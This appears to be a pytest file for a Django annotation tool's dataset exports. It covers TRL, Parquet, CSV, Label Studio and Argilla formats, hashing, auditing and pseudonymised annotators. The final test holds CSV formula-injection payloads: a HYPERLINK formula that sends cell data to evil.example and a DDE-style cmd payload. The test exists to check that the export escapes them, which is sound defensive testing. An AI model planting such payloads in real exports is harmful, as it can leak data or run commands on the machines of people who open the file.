"""Exports: every format readable by its consumer, pseudonymised, hashed, immutable."""

import csv
import hashlib
import io
import json

import pyarrow.parquet as pq
import pytest
from django.core.exceptions import ValidationError

from annotation import exports, services
from annotation.consensus import consensus_recompute
from annotation.models import DatasetSnapshot
from governance.models import AuditEvent
from tests.annotation.conftest import label

pytestmark = pytest.mark.django_db


@pytest.fixture
def labelled(project, anna, ben):
    """Five items, two answers each: four agree on A (strength 3), one is a tie."""
    for i in range(5):
        choice = "tie" if i == 4 else "A"
        label(project, anna, choice, strength=None if choice == "tie" else 3)
        label(project, ben, choice, strength=None if choice == "tie" else 3)
    consensus_recompute(project=project)
    return project


def _content(snapshot: DatasetSnapshot) -> bytes:
    with snapshot.file.open("rb") as handle:
        return handle.read()


def test_trl_export_leaves_ties_out_unless_asked(labelled, rosa):
    snapshot = exports.dataset_export(project=labelled, fmt="trl", user=rosa)
    rows = [json.loads(line) for line in _content(snapshot).decode().splitlines()]
    assert snapshot.row_count == len(rows) == 4
    assert all(set(r) >= {"prompt", "chosen", "rejected", "margin"} for r in rows)
    assert all(r["chosen"].startswith("good") and r["rejected"].startswith("bad") for r in rows)
    with_ties = exports.dataset_export(
        project=labelled, fmt="trl", user=rosa, filters={"include_ties": True}
    )
    rows = [json.loads(line) for line in _content(with_ties).decode().splitlines()]
    assert len(rows) == 5 and sorted(r["margin"] for r in rows)[0] == 0.0


def test_snapshot_hash_is_the_content_hash_and_it_is_audited(labelled, rosa):
    snapshot = exports.dataset_export(project=labelled, fmt="trl", user=rosa)
    assert hashlib.sha256(_content(snapshot)).hexdigest() == snapshot.sha256
    assert snapshot.size_bytes == len(_content(snapshot))
    event = AuditEvent.objects.get(action="dataset.export", object_id=str(snapshot.pk))
    assert event.after["sha256"] == snapshot.sha256 and event.after["rows"] == 4
    snapshot.row_count = 0
    with pytest.raises(ValueError, match="immutable"):
        snapshot.save()
    # The same data exported again gives the same hash: exports are deterministic.
    assert exports.dataset_export(project=labelled, fmt="trl", user=rosa).sha256 == snapshot.sha256


def test_parquet_is_readable_as_a_table(labelled, rosa):
    snapshot = exports.dataset_export(project=labelled, fmt="parquet", user=rosa)
    table = pq.read_table(io.BytesIO(_content(snapshot)))
    assert table.num_rows == 4
    assert {"prompt", "chosen", "rejected", "margin"} <= set(table.column_names)


def test_csv_has_one_row_per_annotation_with_pseudonyms(labelled, rosa, anna):
    snapshot = exports.dataset_export(project=labelled, fmt="csv", user=rosa)
    rows = list(csv.DictReader(io.StringIO(_content(snapshot).decode())))
    assert len(rows) == 10
    pseudonyms = {r["annotator"] for r in rows}
    assert len(pseudonyms) == 2 and all(p.startswith("ann-") for p in pseudonyms)
    assert "anna" not in _content(snapshot).decode()
    assert exports.pseudonym(labelled, anna.pk) in pseudonyms  # stable per project


def test_label_studio_and_argilla_shapes(labelled, rosa):
    ls = json.loads(
        _content(exports.dataset_export(project=labelled, fmt="label_studio", user=rosa))
    )
    assert len(ls) == 5
    task = ls[0]
    assert set(task["data"]) >= {"prompt", "answer1", "answer2"}
    assert task["annotations"][0]["result"][0]["value"]["selected"] in ("left", "right", "tie")
    argilla = json.loads(
        _content(exports.dataset_export(project=labelled, fmt="argilla", user=rosa))
    )
    record = argilla[0]
    assert set(record["fields"]) >= {"prompt", "response1", "response2"}
    assert record["responses"][0]["values"]["preference"]["value"]["choice"] in ("A", "B", "tie")


def test_bad_format_or_filter_writes_nothing(labelled, rosa):
    with pytest.raises(ValidationError):
        exports.dataset_export(project=labelled, fmt="xml", user=rosa)
    with pytest.raises(ValidationError, match="unknown filter"):
        exports.dataset_export(project=labelled, fmt="trl", user=rosa, filters={"colour": "red"})
    assert not DatasetSnapshot.objects.exists()


def test_csv_cells_that_would_run_as_formulas_are_escaped(project, anna, rosa):
    """A hostile external id, prompt and responses reach the CSV inert."""
    hostile = {
        "external_id": "@evil",
        "prompt": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "responses": ["+1+cmd|' /C calc'!A0", "-2+3"],
    }
    services.items_create_bulk(project=project, rows=[hostile])
    services.project_update(project=project, overlap=1)
    for _ in range(project.items.count()):
        label(project, anna, "A")
    consensus_recompute(project=project)
    snapshot = exports.dataset_export(project=project, fmt="csv", user=rosa)
    text = _content(snapshot).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["external_id"] == "'@evil")
    assert row["prompt"] == "'" + hostile["prompt"]
    assert row["response_a"] == "'" + hostile["responses"][0]
    assert row["response_b"] == "'" + hostile["responses"][1]
    assert "\"'=HYPERLINK(" in text  # the escaped cell is quoted
    # Nothing anywhere in the file starts a formula.
    cells = [cell for r in csv.reader(io.StringIO(text)) for cell in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
